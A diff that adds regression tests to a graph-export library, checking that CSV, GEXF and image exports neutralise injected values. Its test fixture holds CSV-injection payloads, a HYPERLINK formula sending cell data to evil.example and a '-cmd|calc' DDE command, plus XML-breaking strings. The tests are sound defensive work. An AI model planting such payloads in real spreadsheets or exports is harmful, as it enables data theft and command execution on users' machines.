@@ -282,3 +282,44 @@ def test_layout_does_not_depend_on_insertion_order() -> None:
     backward.add_nodes_from(sorted(forward.nodes, reverse=True))
     backward.add_edges_from(reversed([(v, u) for u, v in edges]))
     assert layout(forward) == layout(backward)
+
+
+# -- issue 17 ----------------------------------------------------------------------------------------
+def _hostile() -> nx.Graph:
+    graph = nx.Graph(view="actors")
+    graph.add_node("urn:x:1", label='=HYPERLINK("http://evil.example/?"&A1,"klick")', category="organisation",
+                   sectors=("@SUM(1+1)", "IT"), spells=(('2024-01-01"/><x a="', "2024-12-31"),))
+    graph.add_node("urn:x:2", label=r"Geld $\undefined{$ GmbH", category="organisation", city="+49 201",
+                   spells=(("2024-02-01", "2024-02-01"),))
+    graph.add_edge("urn:x:1", "urn:x:2", weight=1.0, relations=("-cmd|calc",), events=(),
+                   spells=(("2024<", "&2024"),))
+    annotate(graph, compute(graph))
+    return graph
+
+
+def test_csv_cells_cannot_start_a_formula() -> None:
+    from ruhrgraph.network.export import generate_csv
+
+    nodes, edges = generate_csv(_hostile())
+    cells = [c for text in (nodes, edges) for row in csv.reader(text.splitlines()) for c in row]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")" in cells
+    assert "'+49 201" in cells and "'-cmd|calc" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]
+
+
+def test_spell_dates_are_escaped_in_gexf(tmp_path: Path) -> None:
+    path = tmp_path / "spells.gexf"
+    path.write_text("\n".join(generate_gexf(_hostile())), encoding="utf-8")
+    root = ET.parse(path).getroot()  # well-formed
+    starts = sorted(s.get("start") for s in root.iter(GEXF + "spell"))
+    assert starts == ["2024-01-01\"/><x a=\"", "2024-02-01", "2024<"]
+    assert not list(root.iter("x"))
+
+
+@pytest.mark.parametrize("fmt", ["png", "svg"])
+def test_a_dollar_in_a_label_is_drawn_as_text(tmp_path: Path, fmt: str) -> None:
+    from ruhrgraph.network.export import EXPORTERS
+
+    out = EXPORTERS.get(fmt)(_hostile(), tmp_path / f"dollar.{fmt}", ExportOptions())
+    assert out.stat().st_size > 1000
